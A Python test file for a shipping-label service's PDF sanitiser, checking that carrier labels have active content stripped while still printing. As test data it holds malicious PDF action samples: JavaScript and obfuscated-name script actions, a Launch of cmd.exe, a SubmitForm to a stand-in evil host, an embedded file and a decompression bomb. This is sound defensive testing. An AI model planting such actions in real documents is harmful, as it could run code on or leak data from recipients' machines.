"""A carrier's PDF is printed and does nothing else."""

import io
import zlib

import pypdfium2
import pytest
from fpdf import FPDF
from sendback_sdk import Label, LabelFormat
from sendback_service.effects.active_content import disarmed, packed_problem
from sendback_service.effects.label_documents import document_problem

_SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
_ACTIONS = [
    _SCRIPT,
    b"<< /S /Java#53cript /JS (app.alert\\(1\\)) >>",
    b"<< /S/Launch/F(cmd.exe) >>",
    b"<< /S /SubmitForm /F (http://evil.example) >>",
    b"<< /Names [(a) << /EmbeddedFile << >> >>] >>",
]


def _page() -> bytes:
    """A label as our own library writes one, not compressed: text on a page."""
    pdf = FPDF(format=(105, 148))
    pdf.set_compression(False)
    pdf.add_page()
    pdf.set_font("helvetica", size=20)
    pdf.cell(text="R7K3F9Q2")
    return bytes(pdf.output())


def _with(action: bytes) -> bytes:
    """The page with an object more, whose action the catalogue names."""
    return _page().replace(b"/Type /Catalog", b"/Type /Catalog\n/OpenAction " + action, 1)


def _packed(content: bytes) -> bytes:
    body = zlib.compress(content)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(body)
    return _page().replace(
        b"%%EOF", b"99 0 obj\n" + head + b"\nstream\n" + body + b"\nendstream\nendobj\n%%EOF"
    )


def _text(document: bytes) -> str:
    return str(pypdfium2.PdfDocument(io.BytesIO(document))[0].get_textpage().get_text_bounded())


def _problem(document: bytes) -> str:
    return document_problem(Label("1Z", document, LabelFormat.PDF), "PDF")


def test_what_only_prints_stays_as_it_was() -> None:
    assert disarmed(_page()) == _page()
    assert not packed_problem(_page())


@pytest.mark.parametrize("action", _ACTIONS)
def test_what_acts_in_the_open_is_disarmed_and_still_prints(action: bytes) -> None:
    document = _with(action)
    found = disarmed(document)
    assert len(found) == len(document)
    names = (b"JavaScript", b"Java#53cript", b"Launch", b"SubmitForm", b"EmbeddedFile")
    assert [name for name in names if name in found] == []
    assert _text(found) == "R7K3F9Q2"
    assert not _problem(document)


def test_what_is_packed_is_refused() -> None:
    assert _problem(_packed(b"1 0 " + _SCRIPT)) == "a PDF that does more than to be printed"
    assert not _problem(_packed(b"1 0 << /Type /Font >>"))


def test_a_bomb_and_a_locked_document_are_refused() -> None:
    assert "unpacks" in _problem(_packed(b"0" * 40_000_000))
    assert "encrypted" in _problem(_page().replace(b"/Type /Catalog", b"/Type /Catalog /Encrypt 9 0 R", 1))


@pytest.mark.parametrize(
    "document", [b"", b"%PDF-1.7", b"<html>%PDF-1.7 %%EOF", b"MZ%PDF- %%EOF", b"x" * 5_000_000]
)
def test_what_is_no_pdf_or_too_large_is_refused(document: bytes) -> None:
    assert _problem(document)
